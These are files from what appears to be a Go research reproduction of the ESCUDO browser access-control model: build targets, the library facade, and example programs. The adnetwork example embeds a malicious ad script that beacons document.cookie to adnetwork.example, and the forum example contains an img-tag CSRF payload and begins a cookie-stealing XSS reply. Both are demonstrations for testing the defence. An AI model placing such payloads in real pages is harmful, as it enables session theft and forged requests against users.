# the committed BENCH_engine.json. Override NEW_BENCH/OLD_BENCH to
# compare arbitrary reports.
OLD_BENCH ?= BENCH_engine.json
NEW_BENCH ?= BENCH_engine.new.json
bench-compare:
	$(GO) run ./cmd/escudo-serve -procs 4 -out $(NEW_BENCH)
	$(GO) run ./cmd/escudo-compare $(OLD_BENCH) $(NEW_BENCH)

# Profile the full run: CPU and heap profiles of the serve-http
# workload land in profiles/ for `go tool pprof`. The gateway also
# exposes live /debug/pprof on its admin host via -pprof.
PROFILE_DIR ?= profiles
profile:
	mkdir -p $(PROFILE_DIR)
	$(GO) run ./cmd/escudo-serve -http 127.0.0.1:0 -tls -pprof \
		-cpuprofile $(PROFILE_DIR)/cpu.pprof -memprofile $(PROFILE_DIR)/heap.pprof \
		-out $(PROFILE_DIR)/BENCH_profile.json
	@echo "profiles written: $(PROFILE_DIR)/cpu.pprof $(PROFILE_DIR)/heap.pprof"
	@echo "inspect with: $(GO) tool pprof $(PROFILE_DIR)/cpu.pprof"

clean:
	$(GO) clean ./...
	rm -f BENCH_engine.new.json BENCH_engine.soak.json BENCH_engine.control.json BENCH_engine.slo.json
	rm -rf profiles
