// Package escudo is a reproduction of "ESCUDO: A Fine-grained
// Protection Model for Web Browsers" (Jayaraman, Du, Rajagopalan,
// Chapin — ICDCS 2010) as a self-contained Go library.
//
// ESCUDO replaces the browser's same-origin policy with a mandatory
// access-control model adapted from hierarchical protection rings:
// every web page is a "system" whose principals (scripts, event
// handlers, request-issuing tags) and objects (DOM regions, cookies,
// native APIs, browser state) are assigned per-page protection rings
// and per-object ACLs, and a reference monitor admits an access
// ⟨P ⊳ O⟩ only when the Origin, Ring, and ACL rules all pass.
//
// This package is the public facade over the implementation:
//
//   - the access-control core (rings, ACLs, contexts, the ERM and the
//     baseline SOP monitor),
//   - a simulated browser stack (HTML parser with AC-tag labeling and
//     the nonce node-splitting defense, mediated DOM, mini-JavaScript
//     interpreter, cookie jar, layout renderer, in-memory network),
//   - the paper's two case-study applications (phpBB, PHP-Calendar)
//     with their published Table 3 / Table 5 configurations,
//   - the §6.4 attack corpus (4 XSS + 5 CSRF per app) and harness,
//   - the Figure 4 performance scenarios.
//
// See DESIGN.md for the system inventory and EXPERIMENTS.md for
// paper-vs-measured results. The runnable entry points are the
// examples/ programs and the cmd/ tools.
package escudo

import (
	"repro/internal/attack"
	"repro/internal/browser"
	"repro/internal/core"
	"repro/internal/mashup"
	"repro/internal/origin"
	"repro/internal/scenarios"
	"repro/internal/sifgen"
	"repro/internal/web"
)

// Core model re-exports.
type (
	// Ring is a hierarchical protection ring label; 0 is the most
	// privileged ring.
	Ring = core.Ring
	// ACL is a per-object access-control list: the outermost ring
	// allowed to read, write, and use the object.
	ACL = core.ACL
	// Op is an operation (read, write, use) on an object.
	Op = core.Op
	// Context is a principal's or object's security context.
	Context = core.Context
	// Decision is the outcome of one authorization query.
	Decision = core.Decision
	// Monitor mediates accesses; ERM and SOPMonitor implement it.
	Monitor = core.Monitor
	// ERM is the ESCUDO Reference Monitor (Origin+Ring+ACL rules).
	ERM = core.ERM
	// SOPMonitor is the baseline same-origin policy.
	SOPMonitor = core.SOPMonitor
	// AuditLog records decisions for post-hoc analysis.
	AuditLog = core.AuditLog
	// PageConfig is a page's ESCUDO configuration (ring count,
	// cookie and API assignments).
	PageConfig = core.PageConfig
)

// Operations.
const (
	OpRead  = core.OpRead
	OpWrite = core.OpWrite
	OpUse   = core.OpUse
)

// RingKernel is ring 0, the most privileged ring of every page.
const RingKernel = core.RingKernel

// DefaultMaxRing is the paper's illustrative ring count (N = 3).
const DefaultMaxRing = core.DefaultMaxRing

// Principal builds a principal security context.
func Principal(o Origin, r Ring, label string) Context { return core.Principal(o, r, label) }

// Object builds an object security context.
func Object(o Origin, r Ring, acl ACL, label string) Context { return core.Object(o, r, acl, label) }

// UniformACL grants read, write, and use to rings 0..r.
func UniformACL(r Ring) ACL { return core.UniformACL(r) }

// PermissiveACL opens all operations to every ring of a page.
func PermissiveACL(maxRing Ring) ACL { return core.PermissiveACL(maxRing) }

// Origin re-exports.
type (
	// Origin is the ⟨scheme, host, port⟩ web origin.
	Origin = origin.Origin
)

// ParseOrigin derives the origin of an absolute URL.
func ParseOrigin(rawURL string) (Origin, error) { return origin.Parse(rawURL) }

// MustParseOrigin is ParseOrigin for statically known URLs.
func MustParseOrigin(rawURL string) Origin { return origin.MustParse(rawURL) }

// Browser re-exports.
type (
	// Browser is a browsing session (cookie jar, history, mode).
	Browser = browser.Browser
	// BrowserOptions configures a browser.
	BrowserOptions = browser.Options
	// Page is one loaded web page.
	Page = browser.Page
	// BrowserMode selects the protection model.
	BrowserMode = browser.Mode
)

// Browser modes.
const (
	// ModeEscudo enforces the ESCUDO MAC policy.
	ModeEscudo = browser.ModeEscudo
	// ModeSOP enforces only the legacy same-origin policy.
	ModeSOP = browser.ModeSOP
)

// NewBrowser creates a browser on a transport (a *Network, or any
// other Transport such as an HTTP gateway client).
func NewBrowser(t Transport, opts BrowserOptions) *Browser { return browser.New(t, opts) }

// Web substrate re-exports.
type (
	// Network routes requests to registered origins.
	Network = web.Network
	// Transport carries requests to the server side; *Network
	// implements it in memory and httpd.ClientTransport over sockets.
	Transport = web.Transport
	// Request is one HTTP-shaped request.
	Request = web.Request
	// Response is one HTTP-shaped response.
	Response = web.Response
	// Handler serves requests for one origin.
	Handler = web.Handler
	// HandlerFunc adapts a function to Handler.
	HandlerFunc = web.HandlerFunc
	// Header is a simplified HTTP header map.
	Header = web.Header
)

// NewNetwork returns an empty in-memory network.
func NewNetwork() *Network { return web.NewNetwork() }

// HTMLResponse builds a 200 text/html response.
func HTMLResponse(body string) *Response { return web.HTML(body) }

// Attack harness re-exports (§6.4).
type (
	// Attack is one member of the XSS/CSRF corpus.
	Attack = attack.Attack
	// AttackResult is one attack × mode verdict.
	AttackResult = attack.Result
)

// AttackCorpus returns the §6.4 corpus: 4 XSS + 5 CSRF per app.
func AttackCorpus() []Attack { return attack.Corpus() }

// RunAttacks executes the corpus under the given browser mode.
func RunAttacks(mode BrowserMode) []AttackResult { return attack.RunAll(mode) }

// Figure 4 re-exports.
type (
	// Figure4Row is one scenario measurement.
	Figure4Row = scenarios.Row
)

// Figure4Scenarios returns the eight performance scenarios.
func Figure4Scenarios() []scenarios.Scenario { return scenarios.All() }

// MeasureFigure4 runs the parse+render overhead experiment.
func MeasureFigure4(reps, warmup int) []Figure4Row { return scenarios.Measure(reps, warmup) }

// Figure4AverageOverhead summarizes rows into the paper's single
// number (5.09% in the original evaluation).
func Figure4AverageOverhead(rows []Figure4Row) float64 { return scenarios.AverageOverhead(rows) }

// Figure4Table renders rows as a text table.
func Figure4Table(rows []Figure4Row) string { return scenarios.Table(rows) }

// Mashup extension re-exports (§7).
type (
	// Delegation grants a guest origin a floored ring inside a host
	// origin's pages.
	Delegation = mashup.Delegation
	// DelegationPolicy is a set of delegations.
	DelegationPolicy = mashup.Policy
	// MashupMonitor is the delegation-aware reference monitor.
	MashupMonitor = mashup.Monitor
)

// NewDelegationPolicy returns an empty delegation policy.
func NewDelegationPolicy() *DelegationPolicy { return mashup.NewPolicy() }

// Configuration-derivation re-exports (§6.2 framework support).
type (
	// IntegrityLevel is a SIF-style integrity annotation level.
	IntegrityLevel = sifgen.Level
	// AnnotatedFragment is one annotated page item.
	AnnotatedFragment = sifgen.Fragment
	// ConfigCompiler derives ESCUDO configuration from annotations.
	ConfigCompiler = sifgen.Compiler
)

// Integrity levels.
const (
	LevelTrusted     = sifgen.Trusted
	LevelApplication = sifgen.Application
	LevelPartner     = sifgen.Partner
	LevelUntrusted   = sifgen.Untrusted
)

// Annotated-fragment kinds.
const (
	FragmentMarkup = sifgen.KindMarkup
	FragmentCookie = sifgen.KindCookie
	FragmentAPI    = sifgen.KindAPI
)

// NewConfigCompiler returns a compiler for the default four-ring
// layout (nil nonce source uses crypto/rand).
func NewConfigCompiler() *ConfigCompiler { return sifgen.New(nil) }
