// Package escudo is a reproduction of "ESCUDO: A Fine-grained
// Protection Model for Web Browsers" (Jayaraman, Du, Rajagopalan,
// Chapin — ICDCS 2010) as a self-contained Go library.
//
// ESCUDO replaces the browser's same-origin policy with a mandatory
// access-control model adapted from hierarchical protection rings:
// every web page is a "system" whose principals (scripts, event
// handlers, request-issuing tags) and objects (DOM regions, cookies,
// native APIs, browser state) are assigned per-page protection rings
// and per-object ACLs, and a reference monitor admits an access
// ⟨P ⊳ O⟩ only when the Origin, Ring, and ACL rules all pass.
//
// This package is the public facade over the implementation:
//
//   - the access-control core (rings, ACLs, contexts, the ERM and the
//     baseline SOP monitor) and the composable monitor pipeline
//     (Compose with cache/delegation/audit/trace layers),
//   - the unified Policy document (ring count, cookie/API assignments,
//     §7 delegations) with validation, lossless JSON round-tripping,
//     and wire delivery via the HTTP gateway,
//   - a simulated browser stack (HTML parser with AC-tag labeling and
//     the nonce node-splitting defense, mediated DOM, mini-JavaScript
//     interpreter, cookie jar, layout renderer, in-memory network),
//   - the paper's two case-study applications (phpBB, PHP-Calendar)
//     with their published Table 3 / Table 5 configurations,
//   - the §6.4 attack corpus (4 XSS + 5 CSRF per app) and harness,
//   - the Figure 4 performance scenarios.
//
// See DESIGN.md for the system inventory and EXPERIMENTS.md for
// paper-vs-measured results. The runnable entry points are the
// examples/ programs and the cmd/ tools.
package escudo

import (
	"errors"

	"repro/internal/attack"
	"repro/internal/browser"
	"repro/internal/core"
	"repro/internal/mashup"
	"repro/internal/origin"
	"repro/internal/policy"
	"repro/internal/scenarios"
	"repro/internal/sifgen"
	"repro/internal/web"
)

// Core model re-exports.
type (
	// Ring is a hierarchical protection ring label; 0 is the most
	// privileged ring.
	Ring = core.Ring
	// ACL is a per-object access-control list: the outermost ring
	// allowed to read, write, and use the object.
	ACL = core.ACL
	// Op is an operation (read, write, use) on an object.
	Op = core.Op
	// Context is a principal's or object's security context.
	Context = core.Context
	// Decision is the outcome of one authorization query.
	Decision = core.Decision
	// Monitor mediates accesses; ERM and SOPMonitor implement it.
	Monitor = core.Monitor
	// ERM is the ESCUDO Reference Monitor (Origin+Ring+ACL rules).
	ERM = core.ERM
	// SOPMonitor is the baseline same-origin policy.
	SOPMonitor = core.SOPMonitor
	// AuditLog records decisions for post-hoc analysis.
	AuditLog = core.AuditLog
	// PageConfig is a page's ESCUDO configuration (ring count,
	// cookie and API assignments).
	PageConfig = core.PageConfig
	// BatchAuthorizer is a Monitor that can decide a whole region in
	// one call, deduplicating computation by equivalence class; every
	// pipeline layer implements it.
	BatchAuthorizer = core.BatchAuthorizer
	// MonitorLayer is one composable stage of a monitor pipeline.
	MonitorLayer = core.Layer
	// DelegationSource resolves §7 delegation floors for the
	// delegation layer; *DelegationPolicy implements it.
	DelegationSource = core.DelegationSource
	// DecisionCache memoizes monitor verdicts; share one across
	// sessions enforcing the same policy.
	DecisionCache = core.DecisionCache
)

// Monitor pipeline. The reference monitor is an open composition: a
// base monitor (ERM, SOPMonitor, ...) wrapped by layers. The canonical
// enforcement stack is
//
//	Compose(&ERM{}, CacheLayer(cache), DelegationLayer(pol), AuditLayer(log))
//
// Every layer implements BatchAuthorizer, so batched region
// authorizations keep one audited decision per node and one
// computation per equivalence class through any stack.

// Compose wraps base with layers, first layer innermost.
func Compose(base Monitor, layers ...MonitorLayer) Monitor { return core.Compose(base, layers...) }

// CacheLayer memoizes verdicts in the shared cache.
func CacheLayer(c *DecisionCache) MonitorLayer { return core.WithCache(c) }

// AuditLayer records every decision in the log; mount it outermost.
func AuditLayer(log *AuditLog) MonitorLayer { return core.WithAudit(log) }

// TraceLayer feeds every decision to fn.
func TraceLayer(fn func(Decision)) MonitorLayer { return core.WithTrace(fn) }

// DelegationLayer re-homes delegated cross-origin accesses (§7);
// mount it outside CacheLayer.
func DelegationLayer(src DelegationSource) MonitorLayer { return core.WithDelegations(src) }

// NewDecisionCache returns an empty shared decision cache.
func NewDecisionCache() *DecisionCache { return core.NewDecisionCache() }

// Operations.
const (
	OpRead  = core.OpRead
	OpWrite = core.OpWrite
	OpUse   = core.OpUse
)

// RingKernel is ring 0, the most privileged ring of every page.
const RingKernel = core.RingKernel

// DefaultMaxRing is the paper's illustrative ring count (N = 3).
const DefaultMaxRing = core.DefaultMaxRing

// Principal builds a principal security context.
func Principal(o Origin, r Ring, label string) Context { return core.Principal(o, r, label) }

// Object builds an object security context.
func Object(o Origin, r Ring, acl ACL, label string) Context { return core.Object(o, r, acl, label) }

// UniformACL grants read, write, and use to rings 0..r.
func UniformACL(r Ring) ACL { return core.UniformACL(r) }

// PermissiveACL opens all operations to every ring of a page.
func PermissiveACL(maxRing Ring) ACL { return core.PermissiveACL(maxRing) }

// Origin re-exports.
type (
	// Origin is the ⟨scheme, host, port⟩ web origin.
	Origin = origin.Origin
)

// ParseOrigin derives the origin of an absolute URL.
func ParseOrigin(rawURL string) (Origin, error) { return origin.Parse(rawURL) }

// MustParseOrigin is ParseOrigin for statically known URLs.
func MustParseOrigin(rawURL string) Origin { return origin.MustParse(rawURL) }

// Browser re-exports.
type (
	// Browser is a browsing session (cookie jar, history, mode).
	Browser = browser.Browser
	// BrowserOptions configures a browser.
	BrowserOptions = browser.Options
	// Page is one loaded web page.
	Page = browser.Page
	// BrowserMode selects the protection model.
	BrowserMode = browser.Mode
)

// Browser modes.
const (
	// ModeEscudo enforces the ESCUDO MAC policy.
	ModeEscudo = browser.ModeEscudo
	// ModeSOP enforces only the legacy same-origin policy.
	ModeSOP = browser.ModeSOP
)

// NewBrowser creates a browser on a transport (a *Network, or any
// other Transport such as an HTTP gateway client).
//
// Deprecated: use New, which validates its inputs and wires unified
// Policy documents and monitor pipelines in one place:
//
//	b, err := escudo.New(net, escudo.WithPolicy(pol))
//
// NewBrowser remains for callers that assemble BrowserOptions by hand.
func NewBrowser(t Transport, opts BrowserOptions) *Browser { return browser.New(t, opts) }

// PageRef identifies the page a MonitorFactory builds a monitor for.
type PageRef = browser.PageRef

// MonitorFactory builds the policy stack mediating one page.
type MonitorFactory = browser.MonitorFactory

// Option configures New.
type Option func(*newConfig) error

type newConfig struct {
	opts BrowserOptions
	pol  *Policy
}

// WithMode selects the protection model (default ModeEscudo).
func WithMode(m BrowserMode) Option {
	return func(c *newConfig) error { c.opts.Mode = m; return nil }
}

// WithDecisionCache plugs a shared decision cache into the monitor
// stack (every session sharing it must enforce the same policy).
func WithDecisionCache(cache *DecisionCache) Option {
	return func(c *newConfig) error { c.opts.Cache = cache; return nil }
}

// WithPolicy mounts a unified policy document: the document is
// validated, and its delegations are compiled into a delegation-aware
// monitor pipeline (base monitor → cache layer → delegation layer)
// built for every page. The ring count and cookie/API assignments
// still arrive per-response in the X-Escudo headers — WithPolicy
// governs the monitor side, the wire document the configuration side.
func WithPolicy(p Policy) Option {
	return func(c *newConfig) error {
		if err := p.Validate(); err != nil {
			return err
		}
		c.pol = &p
		return nil
	}
}

// WithMonitorFactory installs a custom per-page monitor stack. The
// browser composes its audit layer around whatever the factory
// returns. Mutually exclusive with WithPolicy.
func WithMonitorFactory(f MonitorFactory) Option {
	return func(c *newConfig) error { c.opts.MonitorFactory = f; return nil }
}

// WithoutRender skips the layout pass (parse-only workloads).
func WithoutRender() Option {
	return func(c *newConfig) error { c.opts.DisableRender = true; return nil }
}

// WithoutScripts skips script execution.
func WithoutScripts() Option {
	return func(c *newConfig) error { c.opts.DisableScripts = true; return nil }
}

// WithViewportWidth sets the layout width.
func WithViewportWidth(w int) Option {
	return func(c *newConfig) error {
		if w <= 0 {
			return errors.New("escudo: viewport width must be positive")
		}
		c.opts.ViewportWidth = w
		return nil
	}
}

// WithMaxFrameDepth bounds nested iframe loading.
func WithMaxFrameDepth(d int) Option {
	return func(c *newConfig) error {
		if d <= 0 {
			return errors.New("escudo: frame depth must be positive")
		}
		c.opts.MaxFrameDepth = d
		return nil
	}
}

// New builds a browsing session on the transport with functional
// options over the monitor pipeline — the facade's one constructor.
// With no options it is an ESCUDO-mode browser, exactly like
// NewBrowser(t, BrowserOptions{}); WithPolicy mounts a unified policy
// document (delegations included) into every page's monitor stack.
func New(t Transport, options ...Option) (*Browser, error) {
	if t == nil {
		return nil, errors.New("escudo: New requires a transport")
	}
	var cfg newConfig
	for _, opt := range options {
		if opt == nil {
			continue
		}
		if err := opt(&cfg); err != nil {
			return nil, err
		}
	}
	if cfg.pol != nil {
		if cfg.opts.MonitorFactory != nil {
			return nil, errors.New("escudo: WithPolicy and WithMonitorFactory are mutually exclusive")
		}
		// Delegations are an ESCUDO-mode concept: the delegation layer
		// re-homes guest principals into the host origin, which under
		// the flat SOP baseline would grant them FULL same-origin
		// privilege instead of a floored ring. Fail loud rather than
		// widen silently.
		if cfg.opts.Mode == ModeSOP && len(cfg.pol.Delegations) > 0 {
			return nil, errors.New("escudo: a policy with delegations requires ModeEscudo")
		}
		dp, err := cfg.pol.DelegationPolicy()
		if err != nil {
			return nil, err
		}
		mode, cache := cfg.opts.Mode, cfg.opts.Cache
		var delegations MonitorLayer
		if len(cfg.pol.Delegations) > 0 {
			delegations = DelegationLayer(dp)
		}
		cfg.opts.MonitorFactory = func(PageRef) Monitor {
			var base Monitor = &ERM{}
			if mode == ModeSOP {
				base = &SOPMonitor{}
			}
			return Compose(base, CacheLayer(cache), delegations)
		}
	}
	return browser.New(t, cfg.opts), nil
}

// Web substrate re-exports.
type (
	// Network routes requests to registered origins.
	Network = web.Network
	// Transport carries requests to the server side; *Network
	// implements it in memory and httpd.ClientTransport over sockets.
	Transport = web.Transport
	// Request is one HTTP-shaped request.
	Request = web.Request
	// Response is one HTTP-shaped response.
	Response = web.Response
	// Handler serves requests for one origin.
	Handler = web.Handler
	// HandlerFunc adapts a function to Handler.
	HandlerFunc = web.HandlerFunc
	// Header is a simplified HTTP header map.
	Header = web.Header
)

// NewNetwork returns an empty in-memory network.
func NewNetwork() *Network { return web.NewNetwork() }

// HTMLResponse builds a 200 text/html response.
func HTMLResponse(body string) *Response { return web.HTML(body) }

// Attack harness re-exports (§6.4).
type (
	// Attack is one member of the XSS/CSRF corpus.
	Attack = attack.Attack
	// AttackResult is one attack × mode verdict.
	AttackResult = attack.Result
)

// AttackCorpus returns the §6.4 corpus: 4 XSS + 5 CSRF per app.
func AttackCorpus() []Attack { return attack.Corpus() }

// RunAttacks executes the corpus under the given browser mode.
func RunAttacks(mode BrowserMode) []AttackResult { return attack.RunAll(mode) }

// Figure 4 re-exports.
type (
	// Figure4Row is one scenario measurement.
	Figure4Row = scenarios.Row
)

// Figure4Scenarios returns the eight performance scenarios.
func Figure4Scenarios() []scenarios.Scenario { return scenarios.All() }

// MeasureFigure4 runs the parse+render overhead experiment.
func MeasureFigure4(reps, warmup int) []Figure4Row { return scenarios.Measure(reps, warmup) }

// Figure4AverageOverhead summarizes rows into the paper's single
// number (5.09% in the original evaluation).
func Figure4AverageOverhead(rows []Figure4Row) float64 { return scenarios.AverageOverhead(rows) }

// Figure4Table renders rows as a text table.
func Figure4Table(rows []Figure4Row) string { return scenarios.Table(rows) }

// Unified policy document re-exports. Policy is the single
// serializable shape the three older policy carriers (PageConfig
// headers, DelegationPolicy, sifgen output) converge on; it validates,
// round-trips through JSON losslessly, and travels the wire (the httpd
// gateway serves it per-origin and at /policyz).
type (
	// Policy is one origin's versioned ESCUDO policy document.
	Policy = policy.Policy
	// PolicyAssignment labels one cookie: ring plus ACL ceilings.
	PolicyAssignment = policy.Assignment
	// PolicyDelegation is one §7 delegation row of a document.
	PolicyDelegation = policy.Delegation
)

// NewPolicy returns an empty policy document for the origin.
func NewPolicy(o Origin, maxRing Ring) Policy { return policy.New(o, maxRing) }

// ParsePolicy deserializes and validates a policy document.
func ParsePolicy(data []byte) (Policy, error) { return policy.Parse(data) }

// PolicyFromPageConfig lifts a header-carried configuration into a
// policy document.
func PolicyFromPageConfig(o Origin, cfg PageConfig) Policy { return policy.FromPageConfig(o, cfg) }

// UniformAssignment builds a cookie assignment whose ACL equals its
// ring.
func UniformAssignment(r Ring) PolicyAssignment { return policy.Uniform(r) }

// Mashup extension re-exports (§7).
type (
	// Delegation grants a guest origin a floored ring inside a host
	// origin's pages.
	Delegation = mashup.Delegation
	// DelegationPolicy is a set of delegations.
	DelegationPolicy = mashup.Policy
	// MashupMonitor is the delegation-aware reference monitor.
	MashupMonitor = mashup.Monitor
)

// NewDelegationPolicy returns an empty delegation policy.
func NewDelegationPolicy() *DelegationPolicy { return mashup.NewPolicy() }

// Configuration-derivation re-exports (§6.2 framework support).
type (
	// IntegrityLevel is a SIF-style integrity annotation level.
	IntegrityLevel = sifgen.Level
	// AnnotatedFragment is one annotated page item.
	AnnotatedFragment = sifgen.Fragment
	// ConfigCompiler derives ESCUDO configuration from annotations.
	ConfigCompiler = sifgen.Compiler
)

// Integrity levels.
const (
	LevelTrusted     = sifgen.Trusted
	LevelApplication = sifgen.Application
	LevelPartner     = sifgen.Partner
	LevelUntrusted   = sifgen.Untrusted
)

// Annotated-fragment kinds.
const (
	FragmentMarkup = sifgen.KindMarkup
	FragmentCookie = sifgen.KindCookie
	FragmentAPI    = sifgen.KindAPI
)

// NewConfigCompiler returns a compiler for the default four-ring
// layout (nil nonce source uses crypto/rand).
func NewConfigCompiler() *ConfigCompiler { return sifgen.New(nil) }

// CompilePolicy derives both the compiled page and the unified policy
// document from annotations — the §6.2 derivation path landing in the
// one policy shape.
func CompilePolicy(c *ConfigCompiler, o Origin, fragments []AnnotatedFragment) (sifgen.Compiled, Policy, error) {
	return c.CompilePolicy(o, fragments)
}
