// The adnetwork example reproduces the paper's §1 motivating scenario:
// "a blog publisher may sell a small portion of his web page to an
// advertising network. ... The publisher has no further control over
// what appears in that ad space — he trusts the network to have
// verified all content."
//
// With ESCUDO the publisher stops trusting the network: the ad slot is
// an outer-ring AC scope, so a malicious JavaScript ad can still
// render itself and talk to its own slot, but it cannot read the
// publisher's session cookie, rewrite the page, or use the
// XMLHttpRequest API — no verifier (ADsafe et al.) needed.
//
// Run with:
//
//	go run ./examples/adnetwork
package main

import (
	"fmt"
	"strings"

	escudo "repro"

	"repro/internal/html"
)

// publisherPage sells the #adslot region to the network. The ad
// script below is what an attacker posing as an advertiser shipped.
const publisherPage = `<html>
<head><title>The Daily Publisher</title></head>
<body>
<div ring=1 r=1 w=1 x=1 id=content nonce=101>
  <h1 id=headline>Exclusive: rings protect pages</h1>
  <p id=article>Quality journalism goes here.</p>
</div nonce=101>
<div ring=2 r=2 w=2 x=2 id=adslot nonce=102>
  <script id=ad-render>
    // The legitimate part: the ad renders itself into its own slot
    // and reports an (empty, as it turns out) cookie haul home.
    var slot = document.getElementById("adslot");
    slot.innerHTML = "<p id=banner>BUY N0W: miracle supplements</p>";
    var beacon = new Image();
    beacon.src = "http://adnetwork.example/track?c=" + encodeURIComponent(document.cookie);
  </script>
  <script id=ad-deface>
    document.getElementById("headline").innerText = "ADVERTORIAL";
  </script>
  <script id=ad-xhr>
    var x = new XMLHttpRequest();
    x.open("GET", "/account");
    x.send();
  </script>
</div nonce=102>
</body></html>`

func main() {
	pub := escudo.MustParseOrigin("http://publisher.example")
	adnet := escudo.MustParseOrigin("http://adnetwork.example")

	net := escudo.NewNetwork()
	net.Register(pub, escudo.HandlerFunc(func(req *escudo.Request) *escudo.Response {
		resp := escudo.HTMLResponse(publisherPage)
		resp.Header.Set("X-Escudo-Maxring", "3")
		resp.Header.Add("Set-Cookie", "pubsession=readers-secret; Path=/")
		resp.Header.Add("X-Escudo-Cookie", "pubsession; ring=1; r=1; w=1; x=1")
		resp.Header.Add("X-Escudo-Api", "xmlhttprequest; ring=1")
		return resp
	}))
	net.Register(adnet, escudo.HandlerFunc(func(req *escudo.Request) *escudo.Response {
		return escudo.HTMLResponse("")
	}))

	b := escudo.NewBrowser(net, escudo.BrowserOptions{Mode: escudo.ModeEscudo})
	if _, err := b.Navigate("http://publisher.example/"); err != nil {
		panic(err)
	}
	p, err := b.Navigate("http://publisher.example/")
	if err != nil {
		panic(err)
	}

	fmt.Println("The publisher page after the third-party ad executed (ESCUDO):")
	fmt.Println()
	fmt.Printf("  headline:      %q\n", strings.TrimSpace(html.InnerText(p.Doc.ByID("headline"))))
	if banner := p.Doc.ByID("banner"); banner != nil {
		fmt.Printf("  ad rendered:   %q (in ring %d)\n", strings.TrimSpace(html.InnerText(banner)), banner.Ring)
	}
	tracked := "no request"
	for _, e := range net.FindRequests(adnet, nil) {
		if strings.Contains(e.URL, "track") {
			tracked = e.URL
		}
	}
	fmt.Printf("  tracking beacon: %s\n", tracked)
	fmt.Println()
	fmt.Println("  what the ad was denied:")
	for _, e := range p.ScriptErrors {
		fmt.Printf("    - %s\n", firstLine(e.Error()))
	}
	fmt.Println()
	fmt.Println("The ad renders inside its ring-2 slot, but the cookie read came")
	fmt.Println("back empty, the headline write was denied by the ring rule, and")
	fmt.Println("the XMLHttpRequest API (ring 1) was out of reach. The publisher")
	fmt.Println("never had to trust the ad network's verifier (paper §1, §7).")
}

func firstLine(s string) string {
	if i := strings.IndexByte(s, '\n'); i >= 0 {
		return s[:i]
	}
	return s
}
