// The quickstart example shows ESCUDO's access-control model in five
// minutes: build security contexts for the principals and objects of a
// web page, ask the ESCUDO Reference Monitor for decisions, and watch
// each of the three rules (Origin, Ring, ACL) deny an access the
// same-origin policy would have allowed.
//
// Run with:
//
//	go run ./examples/quickstart
package main

import (
	"fmt"

	escudo "repro"
)

func main() {
	blog := escudo.MustParseOrigin("http://blog.example")
	evil := escudo.MustParseOrigin("http://evil.example")

	// A page with the paper's illustrative N=3 rings:
	//   ring 0 — the application's kernel (head scripts)
	//   ring 1 — trusted application content
	//   ring 2 — the blog post
	//   ring 3 — untrusted user comments
	appScript := escudo.Principal(blog, 1, "application script")
	commentScript := escudo.Principal(blog, 3, "script inside a user comment")
	evilScript := escudo.Principal(evil, 0, "script on a malicious site")

	// The blog post object: ring 2; its ACL says rings 0-1 may read,
	// only ring 0 may write, rings 0-2 may receive events (Figure 2).
	post := escudo.Object(blog, 2, escudo.ACL{Read: 1, Write: 0, Use: 2}, "blog post")
	// The session cookie: ring 1, accessible to rings 0-1 only.
	session := escudo.Object(blog, 1, escudo.UniformACL(1), "session cookie")

	erm := &escudo.ERM{}
	sop := &escudo.SOPMonitor{}

	queries := []struct {
		who  escudo.Context
		op   escudo.Op
		what escudo.Context
	}{
		{appScript, escudo.OpRead, post},       // allowed: ring 1 ≤ read ceiling 1
		{appScript, escudo.OpWrite, post},      // denied by the ACL rule (w=0)
		{commentScript, escudo.OpRead, post},   // denied by the ring rule (3 > 2)
		{commentScript, escudo.OpUse, session}, // denied: cookie is ring 1
		{appScript, escudo.OpUse, session},     // allowed: cookies travel with ring-1 requests
		{evilScript, escudo.OpRead, post},      // denied by the origin rule
	}

	fmt.Println("ESCUDO Reference Monitor decisions (vs the same-origin policy):")
	fmt.Println()
	for _, q := range queries {
		d := erm.Authorize(q.who, q.op, q.what)
		s := sop.Authorize(q.who, q.op, q.what)
		fmt.Printf("  %v\n", d)
		if s.Allowed && !d.Allowed {
			fmt.Printf("      … the same-origin policy would have ALLOWED this.\n")
		}
		fmt.Println()
	}

	fmt.Println("The same-origin policy grants every same-origin principal every")
	fmt.Println("privilege; ESCUDO's rings and ACLs subdivide that authority and")
	fmt.Println("enforce least privilege inside the page (paper §2.3, §4.2).")
}
