// The forum example drives the phpBB case study (paper §6.2, Table 3)
// end to end through the public API: a user logs in through the real
// login form, posts a topic and a reply, and then the example replays
// two of the §6.4 attacks — a cookie-stealing XSS reply and an img-tag
// CSRF from a malicious site — under both browser modes, printing the
// verdicts.
//
// Run with:
//
//	go run ./examples/forum
package main

import (
	"fmt"
	"net/url"
	"strconv"
	"strings"

	escudo "repro"

	"repro/internal/apps/phpbb"
	"repro/internal/browser"
	"repro/internal/nonce"
	"repro/internal/origin"
	"repro/internal/web"
)

func main() {
	for _, mode := range []escudo.BrowserMode{escudo.ModeSOP, escudo.ModeEscudo} {
		fmt.Printf("=== phpBB under a %s browser ===\n\n", strings.ToUpper(mode.String()))
		run(mode)
		fmt.Println()
	}
}

func run(mode escudo.BrowserMode) {
	forumOrigin := origin.MustParse("http://forum.example")
	evilOrigin := origin.MustParse("http://evil.example")

	// The unhardened forum (input validation and CSRF tokens removed,
	// §6.4) with the Table 3 ESCUDO configuration.
	forum := phpbb.New(phpbb.Config{
		Origin: forumOrigin, Hardened: false, Escudo: true, Nonces: nonce.NewSeqSource(1),
	})
	forum.AddUser("alice", "alicepw")
	forum.AddUser("mallory", "mallorypw")

	net := web.NewNetwork()
	net.Register(forumOrigin, forum)
	net.Register(evilOrigin, web.HandlerFunc(func(req *web.Request) *web.Response {
		return web.HTML(`<html><body><p>cat pictures</p>` +
			`<img src="http://forum.example/quickpost?subject=CSRF-SPAM&message=pwned"></body></html>`)
	}))

	b := browser.New(net, browser.Options{Mode: mode})

	// --- Normal use: login, post, reply. -------------------------
	p := mustNavigate(b, forumOrigin.URL("/"))
	mustSubmit(p, "loginform", url.Values{"username": {"alice"}, "password": {"alicepw"}})
	p = mustNavigate(b, forumOrigin.URL("/"))
	mustSubmit(p, "newtopic", url.Values{"subject": {"Welcome"}, "message": {"First!"}})
	topicID := forum.Topics()[0].ID
	tp := mustNavigate(b, forumOrigin.URL("/viewtopic?t="+strconv.Itoa(topicID)))
	mustSubmit(tp, "replyform", url.Values{"message": {"Nice thread."}})
	topic, _ := forum.TopicByID(topicID)
	fmt.Printf("  normal use: topic %d by %s with %d reply — works in both modes\n",
		topic.ID, topic.Author, len(topic.Replies))

	// --- Attack 1: XSS cookie theft via a hostile reply. ---------
	forum.SeedReply(topicID, "mallory",
